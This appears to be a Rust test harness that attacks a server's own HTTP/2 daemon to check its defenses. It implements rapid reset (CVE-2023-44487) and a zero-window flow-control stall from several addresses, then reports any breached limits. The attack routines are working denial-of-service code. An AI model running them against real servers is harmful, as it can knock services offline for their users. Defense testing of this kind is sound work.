//! HTTP/2 attacks over cleartext HTTP/2 with prior knowledge (the drill
//! turns TLS off): streams opened and reset at once (rapid reset,
//! CVE-2023-44487), and streams whose flow-control window is never opened
//! (a response held at the daemon, and the upstream connection behind it).
//! The client side is the `h2` crate, as the daemon's own tests use it.

use std::net::Ipv4Addr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use bytes::Bytes;
use h2::client::SendRequest;
use tokio::task::JoinHandle;
use tokio::time::Instant;

use super::attack::{Attack, BoxFuture, Budget, Ctx, Layer, Outcome};
use super::slow::{End, SPREAD, outlived, tally, too_long};
use super::{upstream, wire};

/// An h2c connection from `from`, set up by `builder`. Its connection task
/// is spawned: polling it answers PINGs, and it ends (with the GOAWAY's
/// reason, if any) when the daemon closes.
async fn h2c(
    ctx: &Ctx,
    from: Ipv4Addr,
    builder: &h2::client::Builder,
) -> std::io::Result<(SendRequest<Bytes>, JoinHandle<Result<(), h2::Error>>)> {
    let tcp = wire::connect(from, ctx.target).await?;
    let (client, conn) = builder
        .handshake::<_, Bytes>(tcp)
        .await
        .map_err(std::io::Error::other)?;
    Ok((client, tokio::spawn(conn)))
}

/// A GET of `path` as an h2 client sends it.
fn get(ctx: &Ctx, path: &str) -> http::Request<()> {
    let mut req = http::Request::new(());
    *req.uri_mut() = format!("http://{}{path}", ctx.target).parse().unwrap_or_default();
    req
}

/// How long the upstream waits on each rapid-reset request: long enough
/// that one the daemon failed to cancel would still be held at the check.
const RESET_DELAY_MS: u64 = 2000;

/// Reset streams one connection may take without being closed: far past
/// the daemon's bound (GOAWAY after 20 resets of streams it had not
/// accepted yet), so reaching it means there was no bound.
const PER_CONN: u64 = 1000;

/// How one rapid-reset connection ended.
#[derive(Debug, Default)]
struct ResetConn {
    streams: u64,
    /// The daemon went away (GOAWAY) with this reason, or just closed.
    ended: Option<Option<h2::Reason>>,
}

/// Opens streams on a connection from `from` and resets each at once,
/// without waiting: the HEADERS and RST_STREAM frames go out together, so
/// the daemon reads the resets before it has accepted the streams.
async fn rapid_reset(
    ctx: &Ctx,
    from: Ipv4Addr,
    sent: &AtomicU64,
    started: Instant,
) -> std::io::Result<ResetConn> {
    let deadline = started + ctx.budget.seconds;
    let (client, mut conn) = h2c(ctx, from, &h2::client::Builder::new()).await?;
    let path = format!("/delay/{RESET_DELAY_MS}");
    let mut r = ResetConn::default();
    let mut ours = false;
    while r.streams < PER_CONN && !conn.is_finished() {
        if Instant::now() >= deadline || sent.fetch_add(1, Ordering::Relaxed) >= ctx.budget.max {
            ours = true;
            break;
        }
        // A fresh handle has no stream of its own waiting to open, so it
        // is ready without a trip through the connection task.
        let mut handle = client.clone();
        match handle.send_request(get(ctx, &path), true) {
            Ok((resp, mut stream)) => {
                stream.send_reset(h2::Reason::CANCEL);
                drop(resp);
                r.streams += 1;
            }
            Err(_) => break,
        }
        if r.streams % 50 == 0 {
            // Let the connection task write the frames and read the
            // daemon's answer; and spread the budget over its seconds, so
            // the legitimate population is measured against the whole
            // attack rather than a one-second burst.
            let share = sent.load(Ordering::Relaxed) as f64 / ctx.budget.max as f64;
            let due = started + ctx.budget.seconds.mul_f64(share.min(1.0));
            if due > Instant::now() {
                tokio::time::sleep_until(due.min(deadline)).await;
            } else {
                tokio::task::yield_now().await;
            }
        }
    }
    drop(client);
    // Stopped by the budget, the connection has nothing to prove.
    let wait = if ours {
        Duration::from_millis(200)
    } else {
        Duration::from_secs(2)
    };
    r.ended = match tokio::time::timeout(wait, &mut conn).await {
        Ok(Ok(Err(e))) if e.is_go_away() => Some(e.reason()),
        Ok(_) => Some(None),
        Err(_) => {
            conn.abort();
            None
        }
    };
    Ok(r)
}

/// HTTP/2 rapid reset: streams opened and reset at once, on connection
/// after connection.
pub struct RapidReset;

impl Attack for RapidReset {
    fn name(&self) -> &'static str {
        "h2-rapid-reset"
    }
    fn title(&self) -> &'static str {
        "HTTP/2 rapid reset: streams opened and reset at once, connection after connection, from 8 addresses"
    }
    fn sources(&self) -> u32 {
        8
    }
    fn budget(&self, quick: bool) -> Budget {
        super::attack::budget(quick, 20_000, 200_000, 15)
    }
    fn run(&self, ctx: Ctx) -> BoxFuture<anyhow::Result<Outcome>> {
        Box::pin(async move {
            let start = Instant::now();
            let deadline = start + ctx.budget.seconds;
            let before = upstream::held(&ctx, "delay").await?;
            let sent = Arc::new(AtomicU64::new(0));
            let mut tasks = Vec::new();
            for &from in ctx.sources.iter() {
                let (ctx, sent) = (ctx.clone(), sent.clone());
                tasks.push(tokio::spawn(async move {
                    let mut o = Outcome::default();
                    let (mut conns, mut goaway, mut unbounded) = (0u64, 0u64, 0u64);
                    while Instant::now() < deadline && sent.load(Ordering::Relaxed) < ctx.budget.max {
                        match rapid_reset(&ctx, from, &sent, start).await {
                            Ok(r) => {
                                conns += 1;
                                o.sent += r.streams;
                                match r.ended {
                                    Some(reason) => {
                                        o.refused_at(start.elapsed(), Layer::Http);
                                        goaway += u64::from(reason.is_some());
                                    }
                                    None if r.streams >= PER_CONN => unbounded += 1,
                                    None => {}
                                }
                            }
                            Err(e) => {
                                if wire::is_refusal(&e) {
                                    o.refused_at(start.elapsed(), Layer::Accept);
                                }
                                tokio::time::sleep(Duration::from_millis(20)).await;
                            }
                        }
                    }
                    (o, conns, goaway, unbounded)
                }));
            }
            let mut outcome = Outcome::default();
            let (mut conns, mut goaway, mut unbounded) = (0, 0, 0);
            for t in tasks {
                if let Ok((o, c, g, u)) = t.await {
                    outcome.merge(o);
                    conns += c;
                    goaway += g;
                    unbounded += u;
                }
            }
            let elapsed = start.elapsed();
            // A reset stream's upstream request is cancelled with it: none
            // may still wait out its delay.
            let due = Instant::now() + Duration::from_millis(500);
            let after = loop {
                let h = upstream::held(&ctx, "delay").await?;
                if h.in_flight <= before.in_flight || Instant::now() >= due {
                    break h;
                }
                tokio::time::sleep(Duration::from_millis(50)).await;
            };
            let reached = after.received.saturating_sub(before.received);
            outcome.notes.push(format!(
                "{} reset streams in {:.1} s on {conns} connections, {goaway} ended by GOAWAY; {reached} reached the upstream",
                outcome.sent,
                elapsed.as_secs_f64()
            ));
            if unbounded > 0 {
                outcome.breaches.push(format!(
                    "{unbounded} connections took {PER_CONN} reset streams each and were not closed"
                ));
            }
            if let Some(limit) = ctx.defenses.limit {
                let allowed = limit.allowance(elapsed) * ctx.sources.len() as u64;
                let bound = allowed + allowed / 5 + 5;
                if reached > bound {
                    outcome.breaches.push(format!(
                        "{reached} reset streams reached the upstream from {} addresses in {:.1} s; \
                         their limit allows about {allowed}",
                        ctx.sources.len(),
                        elapsed.as_secs_f64()
                    ));
                }
            }
            let held = after.in_flight.saturating_sub(before.in_flight);
            if held > 0 {
                outcome.breaches.push(format!(
                    "the upstream still held {held} requests of reset streams 0.5 s after the attack"
                ));
            }
            Ok(outcome)
        })
    }
}

/// What each stalled stream asks for: more than any window or buffer on
/// the way holds.
const STALL_BYTES: u64 = 16 << 20;

/// Streams per stalled connection.
const STALL_STREAMS: u64 = 8;

/// One stalling connection from `from`: a zero window
/// (SETTINGS_INITIAL_WINDOW_SIZE = 0, never a WINDOW_UPDATE), PINGs
/// answered, [`STALL_STREAMS`] large responses asked for and never read.
/// How each stream ended, timed from its response head.
async fn stall(ctx: &Ctx, from: Ipv4Addr, bound: Duration) -> Vec<End> {
    let not_connected = |refused| vec![End::NotConnected { refused }; STALL_STREAMS as usize];
    let builder = {
        let mut b = h2::client::Builder::new();
        b.initial_window_size(0);
        b
    };
    let (client, conn) = match h2c(ctx, from, &builder).await {
        Ok(c) => c,
        Err(e) => return not_connected(wire::is_refusal(&e)),
    };
    let path = format!("/bytes/{STALL_BYTES}");
    let mut streams = Vec::new();
    for _ in 0..STALL_STREAMS {
        let mut handle = client.clone();
        streams.push(handle.send_request(get(ctx, &path), true).map(|(resp, _)| resp));
    }
    let mut waits = Vec::new();
    for resp in streams {
        waits.push(tokio::spawn(async move {
            let Ok(resp) = resp else {
                return End::NotConnected { refused: false };
            };
            let resp = match tokio::time::timeout(bound, resp).await {
                Ok(Ok(r)) => r,
                Ok(Err(_)) => {
                    return End::Cut {
                        after: Duration::ZERO,
                        status: None,
                    };
                }
                Err(_) => return End::Survived,
            };
            let head = Instant::now();
            let status = Some(resp.status().as_u16());
            let mut body = resp.into_body();
            // Waiting for data neither reads nor opens the window: with a
            // window of 0 none can come, only the end.
            let end = tokio::time::timeout(bound, async { while let Some(Ok(_)) = body.data().await {} });
            match end.await {
                Ok(()) => End::Cut {
                    after: head.elapsed(),
                    status,
                },
                Err(_) => End::Survived,
            }
        }));
    }
    let mut ends = Vec::new();
    for w in waits {
        ends.push(w.await.unwrap_or(End::NotConnected { refused: false }));
    }
    drop(client);
    conn.abort();
    ends
}

/// HTTP/2 flow-control stall: large responses asked for on connections
/// whose window stays shut.
pub struct Stall;

impl Attack for Stall {
    fn name(&self) -> &'static str {
        "h2-stall"
    }
    fn title(&self) -> &'static str {
        "HTTP/2 flow-control stall: 16 MiB responses asked for with a window of 0, never read, 8 streams a connection"
    }
    fn sources(&self) -> u32 {
        8
    }
    fn budget(&self, quick: bool) -> Budget {
        // Streams.
        if quick {
            Budget {
                max: 64,
                seconds: Duration::from_secs(5),
            }
        } else {
            // Enough to wait out the default write_timeout (10 s).
            Budget {
                max: 256,
                seconds: Duration::from_secs(20),
            }
        }
    }
    fn skip(&self, ctx: &Ctx) -> Option<String> {
        too_long("write_timeout", ctx.defenses.write_timeout, ctx.budget)
    }
    fn run(&self, ctx: Ctx) -> BoxFuture<anyhow::Result<Outcome>> {
        Box::pin(async move {
            let start = Instant::now();
            let deadline = ctx.defenses.write_timeout;
            let bound = outlived(deadline);
            let before = upstream::held(&ctx, "bytes").await?;
            let peak = Arc::new(AtomicU64::new(0));
            let sampler = {
                let (ctx, peak) = (ctx.clone(), peak.clone());
                tokio::spawn(async move {
                    loop {
                        if let Ok(h) = upstream::held(&ctx, "bytes").await {
                            peak.fetch_max(h.in_flight.saturating_sub(before.in_flight), Ordering::Relaxed);
                        }
                        tokio::time::sleep(Duration::from_millis(200)).await;
                    }
                })
            };
            let conns = ctx.budget.max.div_ceil(STALL_STREAMS);
            let gap = SPREAD / u32::try_from(conns.max(1)).unwrap_or(u32::MAX);
            let mut tasks = Vec::new();
            for i in 0..conns {
                let from = ctx.sources[i as usize % ctx.sources.len()];
                let ctx = ctx.clone();
                tasks.push(tokio::spawn(async move {
                    let ends = stall(&ctx, from, bound).await;
                    let at = start.elapsed();
                    ends.into_iter().map(move |e| (at, e)).collect::<Vec<_>>()
                }));
                tokio::time::sleep(gap).await;
            }
            let mut ends = Vec::new();
            for t in tasks {
                ends.extend(t.await.unwrap_or_default());
            }
            sampler.abort();
            let mut outcome = tally(&ends, "stalled streams", "write_timeout", deadline);
            // Every stream has ended or outlived its bound: the upstream
            // must let go of every response within a second of that.
            let due = Instant::now() + Duration::from_secs(1);
            let after = loop {
                let h = upstream::held(&ctx, "bytes").await?;
                if h.in_flight <= before.in_flight || Instant::now() >= due {
                    break h;
                }
                tokio::time::sleep(Duration::from_millis(100)).await;
            };
            let held = after.in_flight.saturating_sub(before.in_flight);
            outcome.notes.push(format!(
                "the upstream received {} of them, at most {} held at once",
                after.received.saturating_sub(before.received),
                peak.load(Ordering::Relaxed)
            ));
            if held > 0 {
                outcome.breaches.push(format!(
                    "the upstream still held {held} stalled responses 1 s after every stream was reset \
                     or had outlived server.write_timeout ({} s) by {:.1} s",
                    deadline.as_secs_f64(),
                    (bound - deadline).as_secs_f64()
                ));
            }
            Ok(outcome)
        })
    }
}
